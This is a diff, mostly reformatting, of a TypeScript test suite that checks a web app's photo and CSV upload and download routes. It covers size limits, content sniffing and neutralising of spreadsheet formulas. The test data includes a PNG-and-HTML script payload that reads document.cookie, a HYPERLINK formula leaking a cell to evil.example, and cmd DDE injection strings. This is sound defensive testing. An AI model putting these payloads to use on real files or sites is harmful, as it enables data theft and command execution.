@@ -54,7 +54,13 @@ async function upload(route: UploadRoute, call: Partial<Call>) {
   const upstream = recordUnmatched();
   try {
     const handler = await handlerOf(route.file, 'POST');
-    const answer = await invoke(handler, { method: 'POST', path: route.path, params: route.params, cookie: await cookieOf(route.who ?? 'admin'), ...call });
+    const answer = await invoke(handler, {
+      method: 'POST',
+      path: route.path,
+      params: route.params,
+      cookie: await cookieOf(route.who ?? 'admin'),
+      ...call,
+    });
     return { answer, upstream: upstream.seen };
   } finally {
     upstream.stop();
@@ -66,7 +72,10 @@ describe('photos: only a JPEG or PNG by content, never read past the limit', () 
     describe(route.name ?? route.path, () => {
       it('an 11 MB photo declared in Content-Length is refused before a byte is read', async () => {
         const { body, stats } = endless();
-        const { answer, upstream } = await upload(route, { body, headers: { 'content-type': 'image/png', 'content-length': String(11 * MB) } });
+        const { answer, upstream } = await upload(route, {
+          body,
+          headers: { 'content-type': 'image/png', 'content-length': String(11 * MB) },
+        });
         expect(answer).toMatchObject({ status: 413, message: 'The photo must be 5 MB or smaller.' });
         expect(stats.pulled).toBeLessThanOrEqual(256 * 1024);
         expect(upstream).toEqual([]);
@@ -106,9 +115,15 @@ describe('photos: only a JPEG or PNG by content, never read past the limit', () 
 
       it('a real JPEG named by its content reaches the upstream as image/jpeg, whatever the browser declared', async () => {
         let sent = '';
-        const api = upstreamAs(route.who ?? 'admin').post(/avatar/).reply(200, { photo: 'http://upstream.test/p.jpg' });
+        const api = upstreamAs(route.who ?? 'admin')
+          .post(/avatar/)
+          .reply(200, { photo: 'http://upstream.test/p.jpg' });
         // nock hands over a binary body hex-encoded.
-        api.on('request', (_req: unknown, _interceptor: unknown, body: string) => (sent = /^[0-9a-f]+$/i.test(body) ? Buffer.from(body, 'hex').toString('latin1') : body));
+        api.on(
+          'request',
+          (_req: unknown, _interceptor: unknown, body: string) =>
+            (sent = /^[0-9a-f]+$/i.test(body) ? Buffer.from(body, 'hex').toString('latin1') : body),
+        );
         const { answer } = await upload(route, { body: fixture('tiny.jpg'), headers: { 'content-type': 'application/octet-stream' } });
         expect(answer.status).toBe(200);
         expect(api.isDone()).toBe(true);
@@ -119,16 +134,24 @@ describe('photos: only a JPEG or PNG by content, never read past the limit', () 
 });
 
 describe('photos: every upload route decodes within the pixel limit, scales and strips metadata', () => {
-  const routes: UploadRoute[] = [...PHOTO_ROUTES, { name: 'profile photo', file: 'app/api/profile/photo/route.ts', path: '/api/profile/photo', who: 'agent' }];
+  const routes: UploadRoute[] = [
+    ...PHOTO_ROUTES,
+    { name: 'profile photo', file: 'app/api/profile/photo/route.ts', path: '/api/profile/photo', who: 'agent' },
+  ];
   /** What the upstream received, as bytes (nock hands a binary body over hex-encoded). */
   const capture = (who: Role) => {
     const sent: Buffer[] = [];
-    const api = upstreamAs(who).post(/avatar/).reply(200, { photo: 'http://upstream.test/p.jpg' });
-    api.on('request', (_req: unknown, _interceptor: unknown, body: string) => sent.push(/^[0-9a-f]+$/i.test(body) ? Buffer.from(body, 'hex') : Buffer.from(body, 'latin1')));
+    const api = upstreamAs(who)
+      .post(/avatar/)
+      .reply(200, { photo: 'http://upstream.test/p.jpg' });
+    api.on('request', (_req: unknown, _interceptor: unknown, body: string) =>
+      sent.push(/^[0-9a-f]+$/i.test(body) ? Buffer.from(body, 'hex') : Buffer.from(body, 'latin1')),
+    );
     return sent;
   };
   /** The JPEG inside a multipart body. */
-  const jpegIn = (body: Buffer) => body.subarray(body.indexOf(Buffer.from([0xff, 0xd8, 0xff])), body.lastIndexOf(Buffer.from([0xff, 0xd9])) + 2);
+  const jpegIn = (body: Buffer) =>
+    body.subarray(body.indexOf(Buffer.from([0xff, 0xd8, 0xff])), body.lastIndexOf(Buffer.from([0xff, 0xd9])) + 2);
 
   for (const route of routes) {
     describe(route.name ?? route.path, () => {
@@ -141,7 +164,10 @@ describe('photos: every upload route decodes within the pixel limit, scales and 
       });
 
       it('a PNG header followed by HTML is refused (415) as unreadable and never forwarded', async () => {
-        const html = Buffer.concat([fixture('tiny.png').subarray(0, 33), Buffer.from('<!doctype html><script>alert(document.cookie)</script>')]);
+        const html = Buffer.concat([
+          fixture('tiny.png').subarray(0, 33),
+          Buffer.from('<!doctype html><script>alert(document.cookie)</script>'),
+        ]);
         const { answer, upstream } = await upload(route, { body: new Uint8Array(html), headers: { 'content-type': 'image/png' } });
         expect(answer).toMatchObject({ status: 415, message: CLEAN_MSG.unreadable });
         expect(upstream).toEqual([]);
@@ -164,11 +190,16 @@ describe('photos: every upload route decodes within the pixel limit, scales and 
 
 describe('CSV upload: over 10 MB is refused without reading it whole; only text is forwarded', () => {
   const multipartHead = (boundary: string) =>
-    new TextEncoder().encode(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="agents.csv"\r\nContent-Type: text/csv\r\n\r\nname,email\n`);
+    new TextEncoder().encode(
+      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="agents.csv"\r\nContent-Type: text/csv\r\n\r\nname,email\n`,
+    );
 
   it('a CSV declared at 11 MB is refused before a byte is read', async () => {
     const { body, stats } = endless();
-    const { answer, upstream } = await upload(CSV_PREVIEW, { body, headers: { 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(11 * MB) } });
+    const { answer, upstream } = await upload(CSV_PREVIEW, {
+      body,
+      headers: { 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(11 * MB) },
+    });
     expect(answer.status).toBe(413);
     expect(answer.message).toBe('The file is larger than 10MB. Please select a smaller file.');
     expect(stats.pulled).toBeLessThanOrEqual(256 * 1024);
@@ -228,9 +259,9 @@ describe('CSV download: a formula in a cell is neutralised, whatever the upstrea
     const hostile = [
       'id,name,email',
       '1,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",a@acme.test',
-      '2,+cmd|\' /C calc\'!A0,b@acme.test',
-      '3,-2+3+cmd|\' /C calc\'!A0,c@acme.test',
-      '4,@SUM(1+1)*cmd|\' /C calc\'!A0,d@acme.test',
+      "2,+cmd|' /C calc'!A0,b@acme.test",
+      "3,-2+3+cmd|' /C calc'!A0,c@acme.test",
+      "4,@SUM(1+1)*cmd|' /C calc'!A0,d@acme.test",
       '5,"\t=1+1",e@acme.test',
       '6,"\r=1+1",f@acme.test',
       '7,Plain Name,g@acme.test',
